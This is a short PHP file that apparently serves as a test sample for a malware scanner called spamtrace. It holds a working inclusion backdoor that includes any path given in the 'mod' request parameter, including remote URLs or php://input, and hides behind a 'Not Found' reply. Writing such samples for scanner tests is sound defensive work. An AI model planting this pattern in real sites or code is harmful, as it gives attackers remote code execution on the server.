<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// An inclusion backdoor: the request names the whole path (a remote URL, php://input,
// a file dropped elsewhere), with ".php" added.
if (isset($_REQUEST['mod'])) {
    include($_REQUEST['mod'] . '.php');
}
echo 'Not Found';
